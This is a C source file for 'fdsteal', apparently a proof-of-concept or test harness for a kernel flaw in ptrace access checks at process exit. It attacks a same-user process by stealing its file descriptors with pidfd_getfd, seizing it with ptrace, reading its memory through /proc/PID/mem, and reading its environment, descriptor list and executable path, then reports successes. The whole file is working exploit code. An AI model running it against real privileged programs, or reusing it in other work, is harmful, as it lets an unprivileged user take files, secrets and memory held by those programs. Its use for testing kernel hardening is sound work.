// Attacks a process of the same user: steals its descriptors, traces it, reads it.
//
// A process that may ptrace a privileged program can take everything that the program has open or
// in memory. Its own user may, unless the program isn't dumpable. Some kernels even let the user at
// the end of the program, when its memory is gone and its descriptors are not: then only its
// capabilities protect them (CVE-2026-46333; kernel/ptrace.c, __ptrace_may_access).
//
//     fdsteal PID [SECONDS]              until it ends, but no longer than SECONDS (1)
//     fdsteal --watch COMM SECONDS       every process whose /proc/PID/comm is COMM, as it appears
//     fdsteal [--repeat R] --run CMD...  starts CMD and attacks it to its end; R times (1)
//
// To be run by the user that the victim runs as, without capabilities. The attacks: pidfd_getfd()
// of descriptors 0 to 31, PTRACE_SEIZE, a byte through /proc/PID/mem, and /proc/PID/fd, /environ
// and /exe. They begin when execve() is over: before that the process is still ours. A
// descriptor 0 to 2 that we gave it ourselves is no booty.
//
// Prints the first finds, a line per attack, and "targets T ended well W attempts N successes M"
// (W: exit status 0, known of CMD only).
// Exit status: 0 no success, 1 a success, 2 nothing to attack, wrong arguments or other trouble.
#define _GNU_SOURCE 1
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <getopt.h>
#include <inttypes.h>
#include <poll.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

#include "common.h"

enum {
    FDS = 32,
    NO_FD = 1 << 20,
    SLOW_EVERY = 16, // rounds of the fast attack for one of the others
    FINDS_SHOWN = 20,
    RUN_MS = 60000,
};

struct target {
    pid_t pid;
    int pidfd;
    bool traced; // once is enough
    bool reaped;
    int status;
};

struct attack {
    const char *name;
    void (*run)(struct attack *attack, struct target *target);
    long attempts;
    long successes;
};

static long targets, ended_well;

static _Noreturn void usage(void)
{
    fputs("usage: fdsteal PID [SECONDS]\n"
          "       fdsteal --watch COMM SECONDS\n"
          "       fdsteal [--repeat R] --run CMD...\n",
          stderr);
    exit(TROUBLE);
}

static void count(struct attack *attack, const struct target *target, bool success,
                  const char *find)
{
    static int shown;

    attack->attempts++;
    if (!success)
        return;
    attack->successes++;
    if (shown++ < FINDS_SHOWN)
        printf("%s %d: %s\n", attack->name, target->pid, find);
}

static char *proc_path(const struct target *target, const char *file, char *ret, size_t size)
{
    snprintf(ret, size, "/proc/%d/%s", target->pid, file);
    return ret;
}

// Says whether a descriptor is one that this process has itself under that number.
static bool is_own(int fd, int number)
{
    struct stat stolen, own;
    return number < 3 && fstat(fd, &stolen) == 0 && fstat(number, &own) == 0 &&
           stolen.st_dev == own.st_dev && stolen.st_ino == own.st_ino;
}

static void steal_fds(struct attack *attack, struct target *target)
{
    for (int number = 0; number < FDS; number++) {
        char link[48], name[256] = "?", find[320];
        int fd = (int)syscall(SYS_pidfd_getfd, target->pidfd, number, 0);
        bool success = fd >= 0 && !is_own(fd, number);
        if (success) {
            snprintf(link, sizeof(link), "/proc/self/fd/%d", fd);
            ssize_t length = readlink(link, name, sizeof(name) - 1);
            name[length < 0 ? 0 : length] = '\0';
            snprintf(find, sizeof(find), "descriptor %d, %s", number, name);
        }
        count(attack, target, success, find);
        if (fd >= 0)
            close(fd);
    }
}

static void trace(struct attack *attack, struct target *target)
{
    int status;

    if (target->traced)
        return;
    target->traced = ptrace(PTRACE_SEIZE, target->pid, 0L, 0L) == 0;
    count(attack, target, target->traced, "seized");
    if (!target->traced)
        return;
    ptrace(PTRACE_INTERRUPT, target->pid, 0L, 0L);
    if (waitpid(target->pid, &status, __WALL) < 0)
        return;
    if (WIFSTOPPED(status)) {
        ptrace(PTRACE_DETACH, target->pid, 0L, 0L);
    } else {
        target->reaped = true;
        target->status = status;
    }
}

static void read_memory(struct attack *attack, struct target *target)
{
    char path[48], maps[64], byte;
    uint64_t address;
    bool success = false;

    if (read_small(proc_path(target, "maps", path, sizeof(path)), maps, sizeof(maps)) &&
        sscanf(maps, "%" SCNx64, &address) == 1) {
        int memory = open(proc_path(target, "mem", path, sizeof(path)), O_RDONLY | O_CLOEXEC);
        success = memory >= 0 && pread(memory, &byte, 1, (off_t)address) == 1;
        if (memory >= 0)
            close(memory);
    }
    count(attack, target, success, "read");
}

static void list_fds(struct attack *attack, struct target *target)
{
    char path[48], find[48];
    struct dirent *entry;
    long number, highest = -1;
    DIR *fds = opendir(proc_path(target, "fd", path, sizeof(path)));

    while (fds != NULL && (entry = readdir(fds)) != NULL)
        if (parse_number(entry->d_name, 0, INT32_MAX, &number) && number > highest)
            highest = number;
    if (fds != NULL)
        closedir(fds);
    snprintf(find, sizeof(find), "up to descriptor %ld", highest);
    count(attack, target, highest > 2, find);
}

static void read_environment(struct attack *attack, struct target *target)
{
    char path[48], text[64];
    bool success = read_small(proc_path(target, "environ", path, sizeof(path)), text, sizeof(text));
    count(attack, target, success, "read");
}

static void read_exe(struct attack *attack, struct target *target)
{
    char path[48], name[256];
    ssize_t length = readlink(proc_path(target, "exe", path, sizeof(path)), name, sizeof(name) - 1);
    name[length < 0 ? 0 : length] = '\0';
    count(attack, target, length >= 0, name);
}

// The first attack is the fast one.
static struct attack attacks[] = {
    {.name = "getfd", .run = steal_fds},          {.name = "ptrace", .run = trace},
    {.name = "mem", .run = read_memory},          {.name = "fd", .run = list_fds},
    {.name = "environ", .run = read_environment}, {.name = "exe", .run = read_exe},
};
enum { ATTACKS = sizeof(attacks) / sizeof(attacks[0]) };

static bool has_ended(const struct target *target)
{
    struct pollfd end = {.fd = target->pidfd, .events = POLLIN};
    return target->reaped || poll(&end, 1, 0) != 0;
}

// Attacks a process until it ends. False if it still lives at the given time.
static bool attack_until(struct target *target, int64_t end)
{
    targets++;
    for (size_t round = 0; !has_ended(target); round++) {
        if (now_ms() > end)
            return false;
        attacks[0].run(&attacks[0], target);
        if (round % SLOW_EVERY == 0)
            for (size_t i = 1; i < ATTACKS && !target->reaped; i++)
                attacks[i].run(&attacks[i], target);
    }
    return true;
}

static bool open_target(pid_t pid, struct target *ret)
{
    int pidfd = (int)syscall(SYS_pidfd_open, pid, 0);

    *ret = (struct target){.pid = pid, .pidfd = pidfd};
    if (pidfd < 0)
        return false;
    // While the process is within an execve(), this call waits for its end (kernel/pid.c,
    // exec_update_lock).
    syscall(SYS_pidfd_getfd, pidfd, NO_FD, 0);
    return true;
}

static void attack_pid(pid_t pid, long seconds)
{
    struct target target;

    if (!open_target(pid, &target))
        fail(TROUBLE, "process %d", pid);
    attack_until(&target, now_ms() + seconds * 1000);
    close(target.pidfd);
}

static bool has_name(pid_t pid, const char *name)
{
    char path[48], comm[32];

    snprintf(path, sizeof(path), "/proc/%d/comm", pid);
    if (!read_small(path, comm, sizeof(comm)))
        return false;
    comm[strcspn(comm, "\n")] = '\0';
    return strcmp(comm, name) == 0;
}

static void watch(const char *name, long seconds)
{
    int64_t end = now_ms() + seconds * 1000;
    DIR *processes = opendir("/proc");
    struct dirent *entry;
    struct target target;
    long pid;

    if (processes == NULL)
        fail(TROUBLE, "/proc");
    while (now_ms() < end) {
        rewinddir(processes);
        while ((entry = readdir(processes)) != NULL) {
            if (!parse_number(entry->d_name, 1, INT32_MAX, &pid) || pid == getpid() ||
                !has_name((pid_t)pid, name) || !open_target((pid_t)pid, &target))
                continue;
            if (!has_ended(&target))
                attack_until(&target, end);
            close(target.pidfd);
        }
    }
    closedir(processes);
}

// Starts the command, and returns when the command has been executed.
static struct target start(char **command)
{
    struct target target;
    int executed[2];
    char byte;

    fflush(NULL);
    if (pipe2(executed, O_CLOEXEC) != 0)
        fail(TROUBLE, "pipe");
    pid_t pid = fork();
    if (pid < 0)
        fail(TROUBLE, "fork");
    if (pid == 0) {
        execvp(command[0], command);
        ssize_t told = write(executed[1], "", 1);
        _exit(told == 1 ? 127 : 126);
    }
    close(executed[1]);
    if (read(executed[0], &byte, 1) != 0) {
        errno = 0;
        fail(TROUBLE, "cannot run %s", command[0]);
    }
    close(executed[0]);
    if (!open_target(pid, &target))
        fail(TROUBLE, "pidfd_open");
    return target;
}

static void run(char **command, long repeat)
{
    for (long i = 0; i < repeat; i++) {
        struct target target = start(command);
        bool ended = attack_until(&target, now_ms() + RUN_MS);

        if (!ended)
            kill(target.pid, SIGKILL);
        if (!target.reaped && waitpid(target.pid, &target.status, __WALL) < 0)
            fail(TROUBLE, "waitpid");
        close(target.pidfd);
        errno = 0;
        if (!ended)
            fail(TROUBLE, "%s did not end", command[0]);
        ended_well += WIFEXITED(target.status) && WEXITSTATUS(target.status) == 0;
    }
}

static int report(void)
{
    long attempts = 0, successes = 0;

    for (size_t i = 0; i < ATTACKS; i++) {
        printf("%s: attempts %ld successes %ld\n", attacks[i].name, attacks[i].attempts,
               attacks[i].successes);
        attempts += attacks[i].attempts;
        successes += attacks[i].successes;
    }
    printf("targets %ld ended well %ld attempts %ld successes %ld\n", targets, ended_well, attempts,
           successes);
    if (attempts == 0)
        return TROUBLE;
    return successes == 0 ? 0 : 1;
}

int main(int argc, char **argv)
{
    static const struct option options[] = {
        {"watch", no_argument, NULL, 'w'},
        {"run", no_argument, NULL, 'r'},
        {"repeat", required_argument, NULL, 'n'},
        {NULL, 0, NULL, 0},
    };
    long repeat = 1, seconds = 1, pid;
    int option, mode = 0;

    while ((option = getopt_long(argc, argv, "+", options, NULL)) != -1) {
        if (option == '?' || (option == 'n' && !parse_number(optarg, 1, 100000, &repeat)))
            usage();
        if (option != 'n')
            mode = option;
    }
    char **rest = argv + optind;
    int count_left = argc - optind;
    if (mode == 'r' && count_left > 0) {
        run(rest, repeat);
    } else if (mode == 'w' && count_left == 2 && parse_number(rest[1], 1, 3600, &seconds)) {
        watch(rest[0], seconds);
    } else if (mode == 0 && count_left >= 1 && count_left <= 2 &&
               parse_number(rest[0], 1, INT32_MAX, &pid) &&
               (count_left == 1 || parse_number(rest[1], 1, 3600, &seconds))) {
        attack_pid((pid_t)pid, seconds);
    } else {
        usage();
    }
    return report();
}
